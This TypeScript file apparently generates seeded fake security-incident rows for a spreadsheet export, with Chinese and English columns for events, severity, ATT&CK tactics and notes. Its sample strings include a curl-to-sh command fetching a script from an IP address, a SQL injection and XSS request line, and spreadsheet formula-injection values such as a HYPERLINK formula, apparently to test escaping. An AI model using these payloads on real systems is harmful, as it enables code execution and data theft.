import { createSeededRandom, pick } from '../random.ts';

/** A cell: a text, a number, or a moment in epoch milliseconds. */
export type Cell = string | number | { readonly at: number };

export interface Column {
  readonly title: string;
  /** In characters of the standard font. */
  readonly width: number;
}

export const columns: readonly Column[] = [
  { title: '事件ID', width: 36 },
  { title: '事件名称', width: 44 },
  { title: '级别', width: 8 },
  { title: '状态', width: 10 },
  { title: '告警数', width: 10 },
  { title: '风险评分', width: 10 },
  { title: '受影响资产', width: 30 },
  { title: '首次发现', width: 20 },
  { title: '最近发现', width: 20 },
  { title: '更新时间', width: 20 },
  { title: 'ATT&CK', width: 28 },
  { title: '描述', width: 60 },
  { title: '备注', width: 44 },
];

const names = [
  '主机异常登录 🔐 Unusual login to a host',
  'WebShell 文件落盘 WebShell written to disk',
  '挖矿程序外联 ⛏️ Mining pool contacted',
  '恶意脚本执行 Malicious script executed',
  '云账号 AccessKey 泄露 🗝️ AccessKey leaked',
  '横向移动：SMB 爆破 Lateral movement: SMB brute force',
  'DNS 隧道通信 Tunnel over DNS',
  '勒索行为：批量加密 🚨 Ransomware: mass encryption',
  '数据库异常导出 Unusual export from a database',
  '容器逃逸 Container escape <privileged> & "host mount"',
] as const;
const levels = ['提示', '低危', '中危', '高危', '严重'] as const;
const states = ['待处理', '处理中', '已处理', '处理失败'] as const;
const tactics = [
  'TA0001 Initial Access',
  'TA0002 Execution',
  'TA0003 Persistence',
  'TA0006 Credential Access',
  'TA0008 Lateral Movement',
  'TA0010 Exfiltration',
  'TA0040 Impact',
] as const;
const descriptions = [
  '检测到主机在非常用地点登录。\n来源 IP 不在白名单内，且登录前有多次失败记录。\n建议：核实登录人身份，必要时重置密码并检查计划任务。',
  '进程创建了可疑文件并建立外联。\n命令行：curl -s "http://203.0.113.7/a.sh" | sh\n父进程：nginx: worker process\n建议：隔离主机，保留内存镜像。',
  'GET /index.php?id=1%27%20OR%201=1 HTTP/1.1\nUser-Agent: <script>alert("x")</script>\nX-Forwarded-For: 198.51.100.23',
  '单行描述，没有换行 one line',
] as const;
const remarks = [
  '',
  '已隔离主机，等待取证 Host isolated, evidence pending',
  '与业务方确认：计划内操作 ✅ Confirmed with the owner: planned work',
  '  两端的空格要保留 Spaces at both ends stay  ',
  '换行\n也要保留 So do line breaks',
  '=1+1 是文本 is a text, not a formula',
  '=HYPERLINK("http://203.0.113.7/","click")',
  '+8613800000000',
  '-2+3',
  '@SUM(1,2)',
] as const;

/** All times are before this moment, whenever the file is made: a task's file is always the same. */
const lastMoment = Date.UTC(2026, 10, 24);
const thirtyDaysMs = 30 * 86_400_000;

/** Security incidents that follow from the seed, newest first. */
export function* createIncidents(seed: string, count: number): Generator<readonly Cell[]> {
  const random = createSeededRandom(seed);
  const digits = (length: number): string =>
    Array.from({ length }, () => Math.floor(random() * 16).toString(16)).join('');
  for (let index = 0; index < count; index++) {
    const lastSeen = lastMoment - Math.floor((thirtyDaysMs * (index + random())) / count);
    const octet = (): number => Math.floor(random() * 254) + 1;
    yield [
      `${digits(8)}-${digits(4)}-4${digits(3)}-a${digits(3)}-${digits(12)}`,
      pick(random, names),
      pick(random, levels),
      pick(random, states),
      Math.floor(random() ** 3 * 500) + 1,
      Math.floor(random() * 1000) / 10,
      `ecs-${digits(6)} (172.16.${octet()}.${octet()})`,
      { at: lastSeen - Math.floor(random() * 86_400_000) },
      { at: lastSeen },
      // A time as text, beside the two that are dates.
      new Date(lastSeen).toISOString().slice(0, 19).replace('T', ' '),
      pick(random, tactics),
      pick(random, descriptions),
      pick(random, remarks),
    ];
  }
}
